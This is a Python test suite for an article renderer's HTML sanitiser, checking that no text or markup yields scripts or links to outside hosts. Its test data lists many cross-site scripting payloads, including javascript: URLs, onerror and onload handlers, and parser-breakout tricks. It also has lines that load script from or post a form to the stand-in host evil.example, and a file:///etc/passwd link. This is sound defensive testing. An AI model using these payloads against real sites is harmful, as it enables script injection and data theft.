"""Whatever is written, nothing that can run a script or leave the site unseen comes out."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.rendering import ArticleLink
from articles.rendering.sanitiser import TAGS, sanitise
from tests.factories import TextLibrary, picture_snapshot, reference_snapshot, rendered

ATTRIBUTES = {
    *("id", "class", "href", "aria-label", "rel", "src", "srcset", "sizes", "width", "height", "alt"),
    *("loading", "decoding", "start", "scope", "data-label"),
}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
OTHER_HOST = re.compile(r"[/\\]{2}")


def _is_harmful(address: str) -> bool:
    scheme = SCHEME.match(address)
    if scheme:
        return scheme[1].lower() not in {"http", "https", "mailto", "tel"}
    return bool(OTHER_HOST.match(address))


class Inspector(HTMLParser):
    """Reads HTML as a browser would and notes what could do harm, in `dangers`."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.dangers.append(f"<{tag}>")
        for name, value in attrs:
            # Browsers leave these out of an address before they look at its scheme.
            address = re.sub(r"[\x00-\x20]", "", value or "")
            if name not in ATTRIBUTES:
                self.dangers.append(f"{name}=")
            if name == "href" and _is_harmful(address):
                self.dangers.append(f"href={address}")
            if name in {"src", "srcset"} and (not address.startswith("/") or OTHER_HOST.match(address)):
                self.dangers.append(f"{name}={address}")

    def handle_comment(self, data: str) -> None:
        self.dangers.append("<!-- -->")

    def handle_decl(self, decl: str) -> None:
        self.dangers.append("<!>")


def dangers_of(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.dangers


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<p onclick=alert(1)>x</p>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="/&#9;/evil.example">x</a>',
        '<img src="//evil.example/a.png">',
        '<img srcset="https://evil.example/a.png 1x">',
        '<p style="x">',
        "<svg>",
        "<!-- x -->",
    ],
)
def test_the_inspector_of_these_tests_sees_harm(html: str) -> None:
    assert dangers_of(html)


LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)",
    "javascript:alert`1`",
    "javascript%3Aalert(1)",
    "vbscript:msgbox(1)",
    "VBSCRIPT:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "view-source:javascript:alert(1)",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "/&Tab;/evil.example",
    "&sol;&sol;evil.example",
    "article:x&quot; onclick=&quot;alert(1)",
    "#&quot; onclick=&quot;alert(1)",
    'https://example.org/"onmouseover="alert(1)',
]


@pytest.mark.parametrize("address", LINKS)
@pytest.mark.parametrize(
    "form", ["[x]({})", "[x](<{}>)", "<{}>", "[x][y]\n\n[y]: {}", "![x]({})", "[![x]({})](https://a.org)"]
)
def test_no_hostile_link_comes_out(form: str, address: str) -> None:
    result = rendered(form.format(address))

    assert dangers_of(result.html) == []


MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=//evil.example><input name=csrf></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<object data=x.svg></object><embed src=x.svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p id=main>x</p><a name=body>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "{{ 7|add:7 }}{% debug %}",
]

PLACES = [
    "{}",
    "## {}",
    "- {}",
    "> {}",
    "| {} |\n|---|\n| {} |",
    "**{}**",
    "[{}](https://example.org)",
    '[x](https://example.org "{}")',
    "```{}\n{}\n```",
    "::: note {}\nText.\n:::",
    "::: care soon {}\nText.\n:::",
    "::: care {} Title\nText.\n:::",
    ":::: do-dont\n::: do {}\nText.\n:::\n::: dont {}\nText.\n:::\n::::",
    "::: compare {}\n| a |\n|---|\n| b |\n:::",
    "::: figure {}\n:::",
    "::: also {}\n:::",
    "::: {}\nText.\n:::",
    "::: figure rug\n{}\n:::",
    '![{}](picture:rug "{}")',
    "![x](picture:{})",
    "[^{}]",
    "[x](article:{})",
    "[x](#{})",
]


@pytest.mark.parametrize("markup", MARKUP)
@pytest.mark.parametrize("place", PLACES)
def test_no_markup_comes_out_wherever_it_is_written(place: str, markup: str) -> None:
    result = rendered(place.replace("{}", markup))

    assert dangers_of(result.html) == []


@pytest.mark.parametrize("markup", MARKUP)
def test_words_of_the_library_are_words_and_never_markup(markup: str) -> None:
    library = TextLibrary()
    library.pictures["rug"] = picture_snapshot(
        alt=markup, caption=markup, credit=markup, tone=markup, src=markup, srcset=markup
    )
    library.articles["thumping"] = ArticleLink(markup, markup, library.pictures["rug"], True)
    library.references["study1906"] = reference_snapshot(title=markup)
    blocks = "![](picture:rug)\n\n::: figure rug\n:::\n\n::: also thumping\n:::\n\n"
    text = blocks + "[x](article:thumping) [^study1906]"

    assert dangers_of(rendered(text, library).html) == []


@pytest.mark.parametrize(
    ("hostile", "clean"),
    [
        ("<p>x<script>alert(1)</script></p>", "<p>x</p>"),
        ("<p>x<style>*{}</style></p>", "<p>x</p>"),
        ('<p onclick="alert(1)" style="color:red" title="x">x</p>', "<p>x</p>"),
        ('<p class="note-title evil">x</p>', '<p class="note-title">x</p>'),
        ('<div class="care-card">x</div>', '<div class="">x</div>'),
        ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
        ('<a href="&#1;javascript:alert(1)">x</a>', "<a>x</a>"),
        ('<a href="data:text/html,x">x</a>', "<a>x</a>"),
        ('<a href="//evil.example">x</a>', "<a>x</a>"),
        ('<a href=" //evil.example">x</a>', "<a>x</a>"),
        ('<a href="/&#9;/evil.example">x</a>', "<a>x</a>"),
        ('<a href="/&#10;\\evil.example">x</a>', "<a>x</a>"),
        ('<a href="\\\\evil.example">x</a>', "<a>x</a>"),
        ('<a href="/ok/" target="_blank">x</a>', '<a href="/ok/">x</a>'),
        ('<img src="https://evil.example/a.png">', "<img>"),
        ('<img src="/&#9;/evil.example/a.png">', "<img>"),
        ('<img src="data:image/png;base64,x">', "<img>"),
        ('<img srcset="//evil.example/a.png 1x">', "<img>"),
        ('<img srcset="/a.webp 320w, https://evil.example/a.png 640w">', "<img>"),
        ('<img src="/a.webp" srcset="/a.webp 1x, /b.webp 2x">',) * 2,
        ('<p id="Main Menu">x</p>', "<p>x</p>"),
        ('<p id="x&quot;y">x</p>', "<p>x</p>"),
        ('<p id="what-happens">x</p>',) * 2,
        ("<svg><script>alert(1)</script></svg>", ""),
        ("<iframe src=/x></iframe><form><input></form>", ""),
        ("<p>x<!-- comment --></p>", "<p>x</p>"),
        ("<p>unclosed <strong>x", "<p>unclosed <strong>x</strong></p>"),
    ],
)
def test_the_sanitiser_alone_lets_nothing_hostile_through(hostile: str, clean: str) -> None:
    assert sanitise(hostile) == clean


@pytest.mark.parametrize("markup", MARKUP)
def test_the_sanitiser_alone_stops_every_vector(markup: str) -> None:
    assert dangers_of(sanitise(markup)) == []


PIECES = st.sampled_from(
    [
        *(
            "::: note",
            ":::: do-dont",
            "::: do A",
            "::: dont B",
            ":::",
            "::::",
            "::: figure rug",
            "::: also thumping",
        ),
        *(
            "::: care soon T",
            "::: compare C",
            "::: pull",
            "# A",
            "## A",
            "### A",
            "---",
            "===",
            "```",
            "> ",
            "- ",
        ),
        *(
            "1. ",
            "    ",
            "| a | b |",
            "|---|--:|",
            "| | |",
            "[^study1906]",
            "[^nobody]",
            "[x](#a)",
            "[",
            "]",
            "(",
            ")",
        ),
        *(
            "![](picture:rug)",
            "[x](article:thumping)",
            "<b>",
            "&lt;",
            "\\",
            "*",
            "**",
            "`",
            "word",
            "\t",
            "  ",
            "\r",
        ),
        *("[x](https://e.org)", "[x]: /y", "<https://e.org>", "\x00", "\u2028", "é", "猫"),
    ]
)
LINES = st.lists(st.lists(PIECES, max_size=4).map(" ".join), max_size=12).map("\n".join)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=400), LINES, st.lists(PIECES, max_size=30).map("".join)))
def test_any_text_at_all_becomes_clean_html(text: str) -> None:
    result = rendered(text)

    assert sanitise(result.html) == result.html
    assert dangers_of(result.html) == []
    ids = re.findall(r' id="([^"]*)"', result.html)
    assert len(ids) == len(set(ids))
    assert all(0 <= problem.line <= text.count("\n") + text.count("\r") + 1 for problem in result.problems)


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="<>/\"'=&;:#x script onerrorhrefsvgimga!-\\\t\n", max_size=120))
def test_any_html_at_all_is_made_clean(html: str) -> None:
    assert dangers_of(sanitise(html)) == []


def test_a_text_of_200_000_characters_is_rendered_and_a_longer_one_refused() -> None:
    longest = rendered("a " * 100_000)
    longer = rendered("a " * 100_000 + "b")

    assert longest.problems == []
    assert [str(problem) for problem in longer.problems] == ["The text is longer than 200,000 characters."]
    assert longer.html == ""


@pytest.mark.parametrize(
    "text",
    [
        "[" * 4000,
        "[^" * 4000,
        "![" * 4000,
        "[a](" * 2000,
        "*a **a " * 1500,
        "> " * 3000 + "x",
        "- " * 3000 + "x",
        "::: note\n" * 2000,
        "`" * 3000 + "a" + "`" * 2999,
        "| a " * 1000 + "|\n" + "|---" * 1000 + "|",
        "<" * 4000,
        "&" * 4000,
    ],
    ids=lambda text: text[:9].strip(),
)
def test_text_made_to_hang_a_parser_is_rendered(text: str) -> None:
    assert dangers_of(rendered(text).html) == []


def test_null_characters_which_the_database_refuses_are_dropped() -> None:
    assert rendered("a\0b").html == "<p>ab</p>\n"


@pytest.mark.parametrize(("words", "minutes"), [(0, 1), (240, 1), (241, 2), (1200, 5)])
def test_reading_time_is_rounded_up_from_240_words_a_minute(words: int, minutes: int) -> None:
    assert rendered("word " * words).reading_minutes == minutes
